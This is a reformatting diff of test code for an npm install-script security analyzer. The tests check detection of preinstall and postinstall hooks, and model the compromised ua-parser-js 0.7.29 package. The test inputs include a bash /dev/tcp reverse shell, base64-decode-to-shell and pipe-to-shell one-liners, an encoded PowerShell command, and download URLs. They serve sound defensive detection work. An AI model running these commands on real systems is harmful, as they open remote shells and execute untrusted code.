@@ -14,14 +14,22 @@ describe('splitShellCommand', () => {
       { words: ['true'], piped: false },
       { words: ['node', 'i.js', '2>&1'], piped: false },
     ]);
-    expect(splitShellCommand('X=$(curl -s https://a.example) && (cd lib && `wget b`)').map((s) => s.words[0])).toEqual(['curl', 'cd', 'wget']);
+    expect(splitShellCommand('X=$(curl -s https://a.example) && (cd lib && `wget b`)').map((s) => s.words[0])).toEqual([
+      'curl',
+      'cd',
+      'wget',
+    ]);
   });
 });
 
 describe('analyzeInstallScripts', () => {
   it('reports each install-time script with the command and the file it runs', () => {
     const manifestText = JSON.stringify({ name: 'x', scripts: { test: 'vitest', postinstall: 'node ./scripts/setup' } }, null, 2);
-    const { signals, targets } = analyzeInstallScripts({ manifest: JSON.parse(manifestText), manifestText, files: ['package.json', 'scripts/setup.js'] });
+    const { signals, targets } = analyzeInstallScripts({
+      manifest: JSON.parse(manifestText),
+      manifestText,
+      files: ['package.json', 'scripts/setup.js'],
+    });
     expect(signals).toEqual([
       {
         id: 'install-script.present',
@@ -42,7 +50,10 @@ describe('analyzeInstallScripts', () => {
   });
 
   it('models ua-parser-js 0.7.29: a preinstall that starts preinstall.js', () => {
-    const { signals, targets } = analyzeInstallScripts({ manifest: UA_PARSER_MANIFEST, files: ['preinstall.js', 'preinstall.sh', 'package.json'] });
+    const { signals, targets } = analyzeInstallScripts({
+      manifest: UA_PARSER_MANIFEST,
+      files: ['preinstall.js', 'preinstall.sh', 'package.json'],
+    });
     expect(ids(signals)).toEqual(['install-script.present', 'install-script.runs-file']);
     expect(signals[0]!.details).toEqual({ script: 'preinstall' });
     expect(targets).toEqual(['preinstall.js']);
@@ -69,7 +80,10 @@ describe('analyzeInstallScripts', () => {
     expect(analyzeCommand('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1').map((f) => f.id)).toEqual(['install-script.network-shell']);
     expect(analyzeCommand('node build.js > out.log 2>&1').map((f) => [f.id, f.value])).toEqual([['install-script.runs-file', 'build.js']]);
     expect(analyzeCommand('node /usr/lib/node_modules/x/cli.js').map((f) => f.id)).toEqual([]);
-    expect(analyzeCommand('echo Y3VybA== | base64 -d | sh').map((f) => f.id)).toEqual(['install-script.decodes-payload', 'install-script.pipe-to-shell']);
+    expect(analyzeCommand('echo Y3VybA== | base64 -d | sh').map((f) => f.id)).toEqual([
+      'install-script.decodes-payload',
+      'install-script.pipe-to-shell',
+    ]);
     expect(analyzeCommand('powershell -EncodedCommand SQBFAFgA').map((f) => [f.id, f.severity])).toEqual([
       ['install-script.inline-code', 'medium'],
       ['install-script.decodes-payload', 'high'],
@@ -77,8 +91,13 @@ describe('analyzeInstallScripts', () => {
   });
 
   it('reports the build tool and an implicit node-gyp build from binding.gyp', () => {
-    const withScript = analyzeInstallScripts({ manifest: { scripts: { install: 'prebuild-install || node-gyp rebuild' } }, files: ['binding.gyp'] });
-    expect(withScript.signals.map((s) => [s.id, s.details])).toEqual([['install-script.present', { script: 'install', buildTool: 'prebuild-install' }]]);
+    const withScript = analyzeInstallScripts({
+      manifest: { scripts: { install: 'prebuild-install || node-gyp rebuild' } },
+      files: ['binding.gyp'],
+    });
+    expect(withScript.signals.map((s) => [s.id, s.details])).toEqual([
+      ['install-script.present', { script: 'install', buildTool: 'prebuild-install' }],
+    ]);
     const implicit = analyzeInstallScripts({ manifest: { name: 'native' }, files: ['binding.gyp', 'src/a.cc'] });
     expect(implicit.signals).toEqual([
       {
@@ -92,7 +111,10 @@ describe('analyzeInstallScripts', () => {
   });
 
   it('treats prepare as info and does not make its files install-time', () => {
-    const { signals, targets } = analyzeInstallScripts({ manifest: { scripts: { prepare: 'bash scripts/build.sh' } }, files: ['scripts/build.sh'] });
+    const { signals, targets } = analyzeInstallScripts({
+      manifest: { scripts: { prepare: 'bash scripts/build.sh' } },
+      files: ['scripts/build.sh'],
+    });
     expect(signals.map((s) => [s.id, s.severity])).toEqual([
       ['install-script.present', 'info'],
       ['install-script.runs-file', 'info'],
@@ -101,7 +123,10 @@ describe('analyzeInstallScripts', () => {
   });
 
   it('reports nothing for packages without install scripts or with a non-object manifest', () => {
-    expect(analyzeInstallScripts({ manifest: { scripts: { test: 'curl x | sh', build: 'tsc' } }, files: ['index.js'] })).toEqual({ signals: [], targets: [] });
+    expect(analyzeInstallScripts({ manifest: { scripts: { test: 'curl x | sh', build: 'tsc' } }, files: ['index.js'] })).toEqual({
+      signals: [],
+      targets: [],
+    });
     expect(analyzeInstallScripts({ manifest: 'not an object' })).toEqual({ signals: [], targets: [] });
     expect(analyzeInstallScripts({ manifest: { scripts: { postinstall: 42 } } })).toEqual({ signals: [], targets: [] });
   });
@@ -109,7 +134,9 @@ describe('analyzeInstallScripts', () => {
 
 describe('analyzeShellScript', () => {
   it("reads ua-parser-js's preinstall.sh line by line: two downloads", () => {
-    expect(analyzeShellScript(UA_PARSER_PREINSTALL_SH, 'preinstall.sh').map((s) => [s.id, s.severity, s.evidence.line, s.evidence.value])).toEqual([
+    expect(
+      analyzeShellScript(UA_PARSER_PREINSTALL_SH, 'preinstall.sh').map((s) => [s.id, s.severity, s.evidence.line, s.evidence.value]),
+    ).toEqual([
       ['install-script.download', 'medium', 1, 'https://freegeoip.example/xml/'],
       ['install-script.download', 'medium', 3, 'http://203.0.113.50/download/jsextension'],
     ]);
